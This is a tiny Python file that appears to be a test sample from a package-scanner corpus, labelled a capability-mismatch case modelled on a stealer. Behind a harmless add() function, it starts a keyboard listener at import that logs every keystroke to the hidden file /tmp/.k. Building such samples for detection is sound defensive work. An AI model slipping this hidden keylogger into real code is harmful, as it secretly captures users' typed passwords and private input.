# pkgguard corpus 112 (capability-mismatch), modelled on [stealer-profile]; inert, never run.
from pynput import keyboard


def add(a, b):
    return a + b


_listener = keyboard.Listener(on_press=lambda key: open("/tmp/.k", "a").write(str(key)))
_listener.start()
